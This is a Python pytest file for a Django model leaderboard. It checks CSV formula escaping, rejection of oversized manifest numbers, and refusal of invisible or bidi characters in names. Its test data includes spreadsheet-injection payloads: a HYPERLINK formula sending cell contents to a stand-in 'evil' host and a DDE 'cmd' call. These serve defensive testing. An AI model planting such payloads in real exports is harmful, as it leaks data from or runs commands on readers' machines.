"""Text that people choose and others read or open: CSV export cells that a spreadsheet would run as formulas are
neutralised; manifest numbers beyond what the database holds are a 400 naming the field (not a 500); invisible,
bidi and control characters are refused in model names and file names, through the API."""

from __future__ import annotations

import csv
import io

import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

from leaderboard.model_runs.services import model_run_create
from leaderboard.model_runs.writer import build_archive
from leaderboard.models import ModelRun, Submission
from leaderboard.rankings.export_stream import csv_cell as _csv_cell
from tests.leaderboard import run_fixtures as fx
from tests.leaderboard.helpers import ALL_REDUCE, CORRECT

pytestmark = pytest.mark.django_db(transaction=True)

GOOD = CORRECT.read_text()
K1 = dict(fx.MANIFEST, k=1, hardware="cpu-gloo-2", precision="fp32")
ATTEMPTS = {(ALL_REDUCE, 1): GOOD}


@pytest.mark.parametrize(
    "cell", ['=HYPERLINK("http://evil/?"&A1,"click")', "-2+3+cmd|' /C calc'!A0", "+1+1", "@SUM(A1)", "\t=1+1", "\r=1+1"]
)
def test_csv_cells_that_would_be_formulas_are_written_as_text(cell):
    assert _csv_cell(cell) == "'" + cell
    assert _csv_cell(-2.5) == "-2.5" and _csv_cell(-3) == -3 and _csv_cell("plain") == "plain"


def _upload(api_client, manifest: dict):
    archive = build_archive(manifest, ATTEMPTS)
    return api_client.post("/api/model-runs/", {"archive": SimpleUploadedFile("run.zip", archive)}, format="multipart")


def test_a_model_named_like_a_formula_exports_as_text(api_client, problems, redis_conn):
    response = _upload(api_client, dict(K1, model='=HYPERLINK("http://evil","x")'))
    assert response.status_code == 201, response.content
    # not evaluated yet, so listed apart from the ranking (unranked): its export escapes the name the same way
    export = api_client.get("/runs/?format=csv&table=unranked").content.decode()
    rows = list(csv.DictReader(io.StringIO(export)))
    assert rows and rows[0]["model"] == '\'=HYPERLINK("http://evil","x")'


@pytest.mark.parametrize(
    "field, value", [("tokens", 2**63), ("tokens", 10**30), ("turn_budget", 2**40), ("wall_time_s", 1e300)]
)
def test_manifest_numbers_beyond_the_database_are_a_400_naming_the_field(
    api_client, problems, redis_conn, field, value
):
    manifest = dict(K1, **{field: value})
    if field == "turn_budget":
        manifest["protocol"] = "agentic"
    response = _upload(api_client, manifest)
    assert response.status_code == 400, response.content
    assert f"the field '{field}'" in response.json()["errors"]["archive"][0]
    assert not ModelRun.objects.exists()


@pytest.mark.parametrize("char", ["\u202e", "\u2066", "\u200b", "\ufeff", "\x00", "\x1b"])
def test_invisible_characters_in_model_names_are_refused(api_client, problems, redis_conn, char):
    response = _upload(api_client, dict(K1, model=f"gpt{char}-x"))
    assert response.status_code == 400, response.content
    assert "the field 'model'" in response.json()["errors"]["archive"][0]
    assert not ModelRun.objects.exists()


@pytest.mark.parametrize("char", ["\u202e", "\u2069", "\u200d", "\ufeff", "\x00"])
def test_invisible_characters_in_file_names_are_refused(api_client, user, problems, redis_conn, char):
    response = api_client.post(
        "/api/submissions/",
        {"problem": ALL_REDUCE, "profile": "cpu-gloo-2", "source": GOOD, "filename": f"sol{char}ution.py"},
        format="json",
    )
    assert response.status_code == 400, response.content
    assert response.json()["detail"].startswith(("The file name holds U+", "Null characters are not allowed"))
    with pytest.raises(ValidationError, match="The archive's file name holds U\\+"):
        model_run_create(user=user, filename=f"run{char}.zip", data=build_archive(K1, ATTEMPTS))
    assert not Submission.objects.exists() and not ModelRun.objects.exists()
